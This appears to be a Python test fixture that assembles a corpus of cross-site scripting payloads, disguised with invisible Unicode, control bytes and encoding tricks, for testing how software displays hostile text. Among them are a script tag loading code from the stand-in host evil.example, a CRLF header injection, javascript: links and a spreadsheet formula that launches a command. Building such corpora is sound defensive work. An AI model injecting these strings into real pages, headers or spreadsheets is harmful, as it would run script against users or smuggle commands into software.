"""Text that attacks what shows it. No line does what another one does already; none is longer than the shortest field takes.

What runs calls `alert` or sets `__xss`; what loads asks `evil.example`. Most of it is in payloads.txt, a line each.
"""

from pathlib import Path

# What an editor would not show.
CHARACTERS = [
    "<\u0301script>alert(1)</script>",
    '"\u0301 onfocus=alert(1) autofocus x="',
    "&\u0301lt;script>",
    "'\u20dd><img src=x onerror=alert(1)>",
    "<\u200dimg src=x onerror=alert(1)>",
    "<\u0338script>alert(1)</script>",
    "<scr\u00adipt>alert(1)</scr\u00adipt>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u02bascript\u02ba onload=alert(1)",
    "\u2039script\u203aalert(1)",
    "<script\u00a0src=//evil.example>",
    "<img\u3000src=x\u3000onerror=alert(1)>",
    "<img\x0bsrc=x\x0bonerror=alert(1)>",
    "<img\x0csrc=x\x0conerror=alert(1)>",
    "<img src=x\x1f onerror=alert(1)>",
    "java\tscript:alert(1)",
    "\x01javascript:alert(1)",
    "\ufeffjavascript:alert(1)",
    "<a href=java\u2028script:alert(1)>x",
    "\u202e>tpircs/<)1(trela>tpircs<",
    "\u2066<script>\u2069alert(1)",
    "\u200f\u05d0<b>\u05d1</b>",
    "\u0627\u0644<svg/onload=alert(1)>",
    "<\u0130mg src=x onerror=alert(1)>",
    "<\u017fcript>alert(1)</\u017fcript>",
    "<\u212aeygen onfocus=alert(1)>",
    "\U0001f469\u200d\U0001f692<img src=x onerror=alert(1)>",
    "z\u0310\u0313a\u0314\u0315l<script>\u0316g\u0317o",
    "\x1b[31m<b>red</b>\x1b]0;title\x07",
    "<scr%00ipt>alert(1)</scr%00ipt>",
    "<scr\\0ipt>alert(1)</scr\\0ipt>",
    "&#0;<script>alert(1)</script>",
    "\ufffd\ufffe<script>alert(1)</script>",
    "\ud7ff\ue000<img src=x onerror=alert(1)>",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
    "first\nsecond: <script>alert(1)</script>",
    "x\r\nSet-Cookie: tocsin=x\r\n\r\n<script>alert(1)</script>",
    "[y] and [y][]\n\n[y]: javascript:alert(1) 'title'",
    "=cmd|'/c calc'!A1",
    "REF-20251229-A7K<b>x</b>",
]

_lines = Path(__file__).with_name("payloads.txt").read_text(encoding="utf-8").split("\n")
PAYLOADS = [line for line in _lines if line.strip() and not line.startswith("# ")] + CHARACTERS
# A heading of Markdown, which would be one of the file's here.
PAYLOADS.append("# <script>alert(1)</script>")

assert len(PAYLOADS) >= 200 and len(set(PAYLOADS)) == len(PAYLOADS)
